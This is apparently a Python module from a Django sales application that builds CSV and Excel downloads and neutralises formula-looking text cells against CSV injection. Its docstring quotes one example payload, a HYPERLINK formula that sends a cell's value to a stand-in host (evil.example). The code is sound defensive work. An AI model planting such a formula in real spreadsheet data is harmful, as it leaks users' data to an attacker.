"""CSV and Excel downloads whose cells a spreadsheet shows but never evaluates.

A text typed by anyone (a visit's purpose, a customer's name) may start like a formula:
`=HYPERLINK("http://evil.example/?x="&A1,"click")`. Every export goes through this module
(docs/security.md, Exports):

- CSV: a text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
  leading `'` (OWASP, CSV injection), which spreadsheets show as text. Numbers are never
  touched: an int or Decimal is written as it is (`-3.00`), and so is a text that is only
  a number (`-1,234.00`, `-¥1,234.50`, `+12.5%`): a spreadsheet may read it as a number,
  but it calls nothing.
- Excel: every text cell is a string cell (never a formula, never an error value); a
  formula-looking one is also marked quote-prefixed, so that editing it in Excel keeps it
  text. Numbers and dates stay numbers and dates.

Machine formats read back by SalesOrg or compared exactly (INTERCHANGE.md, the `kpi` and
`product-mix` commands of KPI.md) write their cells verbatim (`neutralise=False`).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping
from datetime import date
from decimal import Decimal
from functools import cache
from typing import TYPE_CHECKING, Any

from django.http import HttpResponse
from django.utils.functional import Promise

from salesorg.core.money import XLSX_MONEY_FORMAT

if TYPE_CHECKING:
    from openpyxl import Workbook
    from openpyxl.cell.cell import Cell

CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# A text cell starting so is read as a formula (or a command) by a spreadsheet.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A text that is only a number, as SalesOrg writes numbers: sign, ¥, grouped digits, %.
NUMBER_TEXT = re.compile(r"[+-]?¥?(?:\d{1,3}(?:,\d{3})+|\d+)(?:\.\d+)?%?")


def is_formula_text(text: str) -> bool:
    """Whether a spreadsheet opening this text as a cell would evaluate it."""
    return text.startswith(FORMULA_STARTS) and not NUMBER_TEXT.fullmatch(text)


def neutralised(text: str) -> str:
    """A text as a cell a spreadsheet shows as it is (a leading `'` when it looks like a
    formula)."""
    return f"'{text}" if is_formula_text(text) else text


def csv_cell(value: Any, *, neutralise: bool = True) -> str:
    """A value as the text of a CSV cell: empty for None, dates ISO, numbers as they are,
    texts neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool | int | Decimal | float):
        return str(value)
    if isinstance(value, date):  # a datetime too
        return value.isoformat()
    text = str(value)
    return neutralised(text) if neutralise else text


class CsvWriter:
    """A csv.writer whose cells go through csv_cell."""

    def __init__(self, stream, *, neutralise: bool = True, **fmtparams):
        self._writer = csv.writer(stream, **fmtparams)
        self._neutralise = neutralise

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([csv_cell(value, neutralise=self._neutralise) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_text(
    header: Iterable[Any] | None, rows: Iterable[Iterable[Any]], *, neutralise: bool = True
) -> str:
    """Rows (after an optional header) as CSV text, one `\\n` per line."""
    buffer = io.StringIO()
    writer = CsvWriter(buffer, neutralise=neutralise, lineterminator="\n")
    if header is not None:
        writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


def csv_download(filename: str) -> tuple[HttpResponse, CsvWriter]:
    """A UTF-8 CSV download (with BOM, so that Excel opens Chinese names correctly) and the
    writer of its rows."""
    response = HttpResponse(content_type=CSV_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")
    return response, CsvWriter(response)


def csv_response(
    filename: str, header: Iterable[Any], rows: Iterable[Iterable[Any]]
) -> HttpResponse:
    """A UTF-8 CSV download of the header and the rows."""
    response, writer = csv_download(filename)
    writer.writerow(header)
    writer.writerows(rows)
    return response


@cache
def _openpyxl_cells():
    """openpyxl's write-only cell and its illegal-character pattern, loaded on first use:
    importing openpyxl takes a fifth of a second that every command paid at start-up."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    return WriteOnlyCell, ILLEGAL_CHARACTERS_RE


def xlsx_cell(sheet, value: Any, number_format: str = "") -> Cell:
    """A value as a cell of `sheet`: texts as text cells (never a formula), numbers and
    dates as they are (with `number_format` when given)."""
    write_only_cell, illegal_characters = _openpyxl_cells()
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str):
        value = illegal_characters.sub("", value)  # control characters Excel cannot hold
    cell = write_only_cell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"
        if is_formula_text(value):
            cell.quotePrefix = True
    if number_format:
        cell.number_format = number_format
    return cell


def xlsx_append(
    sheet, values: Iterable[Any], number_formats: Mapping[int, str] | None = None
) -> None:
    """Append one row to a sheet (write-only or not); `number_formats` by column index (0-based)."""
    formats = number_formats or {}
    sheet.append(
        [xlsx_cell(sheet, value, formats.get(index, "")) for index, value in enumerate(values)]
    )


def xlsx_workbook(*, write_only: bool = False) -> Workbook:
    """A new workbook to fill with xlsx_append."""
    from openpyxl import Workbook  # on first use, like _openpyxl_cells()

    return Workbook(write_only=write_only)


def xlsx_bytes(workbook: Workbook) -> bytes:
    """The saved workbook."""
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_download(filename: str, body: bytes) -> HttpResponse:
    """An Excel download of a saved workbook."""
    response = HttpResponse(body, content_type=XLSX_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def xlsx_response(
    filename: str,
    header: Iterable[Any],
    rows: Iterable[Iterable[Any]],
    *,
    decimal_format: str = XLSX_MONEY_FORMAT,
    number_formats: Mapping[int, str] | None = None,
    sheet_title: str = "",
) -> HttpResponse:
    """An Excel workbook of one sheet: the header and the rows. `number_formats` gives the
    format of a column (by 0-based index); any other Decimal is shown with `decimal_format`
    (an amount, ¥1,234.50, unless the caller says otherwise)."""
    formats = number_formats or {}
    workbook = xlsx_workbook(write_only=True)
    sheet = workbook.create_sheet(sheet_title or None)
    xlsx_append(sheet, header)
    for row in rows:
        sheet.append(
            [
                xlsx_cell(
                    sheet,
                    value,
                    formats.get(index, decimal_format if isinstance(value, Decimal) else ""),
                )
                for index, value in enumerate(row)
            ]
        )
    return xlsx_download(filename, xlsx_bytes(workbook))
